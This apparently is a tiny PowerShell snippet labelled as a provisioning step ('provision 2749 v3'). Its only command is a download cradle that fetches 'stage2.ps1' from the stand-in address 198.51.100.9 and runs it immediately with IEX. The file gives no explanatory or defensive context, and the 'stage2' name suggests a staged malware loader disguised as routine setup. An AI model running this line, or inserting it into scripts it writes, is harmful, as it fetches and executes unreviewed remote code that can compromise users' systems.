# provision 2749 v3
IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/stage2.ps1')
